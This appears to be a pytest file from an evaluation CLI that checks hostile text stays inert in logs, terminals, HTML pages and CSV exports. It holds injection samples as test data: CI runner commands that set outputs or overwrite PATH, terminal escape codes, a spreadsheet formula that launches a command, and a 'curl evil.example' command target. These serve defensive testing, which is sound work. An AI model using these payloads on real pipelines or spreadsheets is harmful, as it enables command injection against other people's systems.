"""Whatever a stranger has written reaches a log, a terminal and a table as text that does nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys

import pytest

from runevals.lib.text.escape import spreadsheet_cell
from tests.attacks.conftest import SECRETS
from tests.reports.parsed_page import Page

ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31m\x9b1m\u202e\u200b"
COMMAND = "::set-output name=verdict::passed"
AZURE = "##vso[task.setvariable variable=PATH]/tmp/evil"
NASTY = f"x{ESCAPES}\n{COMMAND}\n  ::stop-commands::x\n##[error]y {AZURE}\r{COMMAND}"
KEY = SECRETS["AGENT_KEY"]
OURS = "error|warning|notice|group|endgroup"  # what we tell a runner ourselves
LIVE = re.compile(rf"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]|^\s*::(?!(?:{OURS})\b)|##\w*\[", re.MULTILINE)
RUNNER = {"CI": "true", "GITHUB_ACTIONS": "true"}


def inert(text: str) -> None:
    """Fails for what moves a cursor, commands a runner or is a secret."""
    found = LIVE.search(text)
    assert found is None, f"{found} in {text!r}"
    assert KEY not in text


def test_the_texts_here_are_live():
    """The control."""
    assert all(
        map(
            LIVE.search,
            ("\x1b", "\x07", "\x9b1m", "\u202e", "\r", COMMAND, f"x\n  {COMMAND}", "##[error]y", AZURE),
        )
    )


@pytest.fixture
def document(hostile):
    hostile.run("run", "-o", "given.json").must(0)
    return json.loads((hostile.path / "given.json").read_text(encoding="utf-8"))


def everywhere(value, text, path=()):
    """The value with every text in it that is free replaced."""
    fixed = {"started_at", "status", "outcome", "layer", "type", "state", "verdict", "code", "name", "sandbox"}
    if isinstance(value, dict):
        return {key: everywhere(item, text, (*path, key)) for key, item in value.items()}
    if isinstance(value, list):
        return [everywhere(item, text, path) for item in value]
    return text if isinstance(value, str) and path[-1] not in fixed and path[0] != "tool" else value


READERS = (
    ["report", "nasty.json"],
    ["compare", "nasty.json", "nasty.json"],
    ["merge", "nasty.json"],
    ["comment", "nasty.json", "--pull-request", "1"],
    ["history", "."],
    ["validate", "--health", "--results", "nasty.json"],
)
CHANGES = {
    "every text": lambda told: everywhere(told, f"{NASTY} {KEY}"),
    "the sandbox": lambda told: {**told, "run": {**told["run"], "sandbox": NASTY}},
    "a time": lambda told: {**told, "run": {**told["run"], "started_at": NASTY}},
    "a huge number": lambda told: {**told, "run": {**told["run"], "duration_s": "LARGE"}},
    "a huge total": lambda told: {**told, "totals": {**told["totals"], "pass_rate": "LARGE"}},
    "an exit code": lambda told: {**told, "verdict": {**told["verdict"], "exit_code": "HUGE"}},
    "the format": lambda told: {**told, "format_version": NASTY},
    "a key": lambda told: {**told, NASTY: 1},
    "no JSON": lambda told: NASTY,
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_a_document_full_of_commands_is_read_or_refused_as_text(hostile, document, change):
    made = change(document)
    text = made if isinstance(made, str) else json.dumps(made)
    hostile.write("nasty.json", text.replace('"HUGE"', "9" * 5000).replace('"LARGE"', "9" * 400))
    for words in READERS:
        ran = hostile.run(*words, **RUNNER)
        assert ran.code in (0, 1, 2, 3), ran.text
        inert(ran.text)
        inert(hostile.run(*words).text)  # in another system's job, such as one of Azure Pipelines


NAMES = {
    "suites": f"suites: [{json.dumps(NASTY)}]",
    "a long suite": f"suites: [{json.dumps(NASTY + 'a' * 5000)}]",
    "a folder": f"target: {{type: command, command: x, cwd: {json.dumps(NASTY)}}}",
    "a long folder": f"target: {{type: command, command: x, cwd: {json.dumps(NASTY + 'a' * 5000)}}}",
    "a model": f"target: {{type: openai, model: {json.dumps(NASTY)}}}",
    "a function": f"target: {{type: python, function: {json.dumps(NASTY + ':f')}}}",
    "a key": f"{json.dumps(NASTY)}: 1",
    "a filter": f"filter: [{json.dumps(NASTY)}]",
    "a gate": f"gates: [{{name: {json.dumps(NASTY)}, metric: pass_rate, op: '>=', limit: 1}}]",
    "a judge": f"judge: {json.dumps(NASTY)}",
    "a prompt": f"target: {{type: openai, model: m, system_prompt_file: {json.dumps(NASTY)}}}",
    "a baseline": f"baseline: {json.dumps(NASTY)}",
    "an address": f"target: {{type: http, url: {json.dumps('http://x/' + NASTY)}}}",
}


@pytest.mark.parametrize("settings", NAMES.values(), ids=NAMES)
def test_names_in_the_settings_are_shown_as_text(hostile, settings):
    hostile.write("runevals.yaml", f"{settings}\n")
    for command in ("settings", "init", "run"):
        ran = hostile.run(command, **RUNNER)
        assert ran.code in (0, 1, 2, 3), ran.text
        inert(ran.text)


@pytest.mark.parametrize(
    "words",
    [["validate", "--format", "json"], ["validate", "--format", "sarif"], ["plan", "--format", "json"]],
    ids=" ".join,
)
def test_json_on_a_log_is_the_same_value_and_no_command(hostile, words):
    names = f"k ##[add-mask]secret {AZURE}"
    item = {"testId": names, "prompt": "Hello?", "expected_response": "yes", names: 1}
    hostile.write("evals.json", json.dumps({"schemaVersion": "1.2.0", "items": [item]}))
    ran = hostile.run(*words, **RUNNER)
    assert words[0] == "plan" or names in json.dumps(json.loads(ran.text))
    inert(ran.text)


@pytest.mark.parametrize("command", ["settings", "init", "validate", "run", "plan", "upgrade"])
def test_names_of_files_are_shown_as_text(hostile, command):
    (hostile.path / "runevals.yaml").unlink()
    folder = f"evals/{ESCAPES}\n{COMMAND}"
    hostile.write(f"{folder}.json", "{}")
    hostile.write(f"{folder}/evals.json", "{}")
    for words in ([command], [command, f"{folder}.json"], [command, f"{folder}/nothing.json"]):
        ran = hostile.run(*words, **RUNNER)
        assert "Traceback" not in ran.text
        inert(ran.text)


def test_a_crash_is_told_as_text(hostile, monkeypatch):
    """A bug of ours may quote anything in its traceback."""

    def broken(*_words, **_told):
        raise LookupError(f"{NASTY} {KEY}")

    monkeypatch.setattr("runevals.cli.report.read_conclusion", broken)
    hostile.write("given.json", "{}")
    ran = hostile.run("report", "given.json", **RUNNER)
    ran.must(4, "Traceback", "LookupError", "This is a bug in runevals", "[redacted AGENT_KEY]")
    inert(ran.text)


CRASHING_THREAD = """
import os, sys, threading
from runevals.cli import main
leave = os._exit
def broken():
    raise LookupError(sys.argv[1])
def crash_and_leave(code):
    thread = threading.Thread(target=broken)
    thread.start()
    thread.join()
    leave(code)
os._exit = crash_and_leave
main(["--version"])
"""


def test_a_crash_of_a_thread_is_told_as_text():
    """In a process of its own: `main` changes the one that it runs in for good."""
    command = [sys.executable, "-c", CRASHING_THREAD, f"{NASTY} {KEY}".replace("\0", "")]
    environment = {**os.environ, **SECRETS, "GITHUB_ACTIONS": "true"}
    ran = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert "LookupError" in ran.stderr
    inert(ran.stderr)


FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1", "\uff201", "fine\r=cmd|'/c calc'!A0"]
FORMULAS += ["fine\r\r@x", '"\r=1', "a,b\r=1", "a\n\r=1\r\n=2"]


def rows_of(text: str) -> list[list[str]]:
    """What a spreadsheet reads: to it, a carriage return ends a row as well."""
    return list(csv.reader(io.StringIO(text.replace("\r\n", "\n").replace("\r", "\n"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_and_no_row_of_a_table_begins_with_a_formula(hostile, text):
    hostile.first = text
    suite = {
        "default_evaluators": {"ExactMatch": {}},
        "items": [{"testId": "a", "prompt": text, "expected_response": "b"}],
    }
    hostile.write("evals.json", {"schemaVersion": "1.2.0", **suite})
    hostile.run("run", "-o", "out.csv")
    rows = rows_of((hostile.path / "out.csv").read_bytes().decode())
    assert len({len(row) for row in rows}) == 1, rows
    assert not [cell for row in rows for cell in row if re.match(r"[=+@\t\r\uff1d\uff20]|-(?!\d+$)", cell)]
    assert rows_of(text + ",x")  # the control below reads the same way


def test_a_table_without_this_has_such_a_row():
    """The control, as the writer of Python 3.12 and older leaves it: 3.13 quotes it."""
    assert rows_of("a,fine\r=cmd|'/c calc'!A0\n")[1][0].startswith("=cmd")
    assert spreadsheet_cell("a, b\nc") == "a, b\nc"


@pytest.mark.parametrize(
    "words",
    [["report", "given.json"], ["compare", "given.json", "given.json"]],
    ids=lambda words: words[0],
)
def test_no_page_of_a_document_offers_its_target_as_a_command(hostile, document, words):
    """Who made the document would choose what its reader runs by copying a line."""
    document["run"]["settings"] |= {"target": "command:sh -c 'curl evil.example'", "config": "evil.yaml"}
    hostile.write("given.json", document)
    hostile.run(*words, "-o", "page.html").must(0)
    [line] = {shown["again"].partition(" --filter=")[0] for shown in shown_cases(hostile)}
    assert line == "runevals run evals.json"
    assert not any("evil" in shown["again"] for shown in shown_cases(hostile))


def test_the_page_of_a_run_of_ones_own_names_its_target(hostile):
    """The control."""
    hostile.run("run", "--target", "openai:tiny", "-o", "page.html").must(0)
    assert all(shown["again"].endswith("--target=openai:tiny") for shown in shown_cases(hostile))


def shown_cases(hostile) -> list[dict[str, str]]:
    page = Page((hostile.path / "page.html").read_text(encoding="utf-8"))
    return [shown for shown in page.data("body") if shown]
